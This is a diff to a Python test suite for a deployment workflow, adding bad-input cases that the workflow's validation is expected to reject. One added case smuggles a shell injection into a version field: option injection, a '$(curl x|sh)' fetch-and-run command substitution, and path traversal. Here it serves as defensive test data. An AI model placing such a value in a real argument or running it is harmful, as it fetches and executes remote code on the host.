@@ -51,6 +51,10 @@ async def test_start_signal_and_query_with_the_temporal_cli(blue_green, tmp_path
     ('{"environment": "atlantis", "targets": ["backend"]}', "environment"),
     ('{"environment": "demo", "targets": ["backend"], "require_approval": "perhaps"}', "require_approval"),
     ('"just a string"', "input"),
+    # Typed into the UI: would reach deploy_command's arguments (option, path and shell injection).
+    ('{"environment": "demo", "targets": ["backend"], "to_version": {"backend": "--help; $(curl x|sh) ../../etc"}}',
+     "to_version.backend: '--help; $(curl x|sh) ../../etc' is not a valid version"),
+    ('{"environment": "demo", "targets": ["frontend"]}', "targets: frontend is not available yet"),
 ])
 async def test_bad_json_from_the_cli_fails_the_workflow_within_seconds(blue_green, tmp_path, client, task_queue, run_worker, payload, field):
     await run_worker(write_config(blue_green, tmp_path))
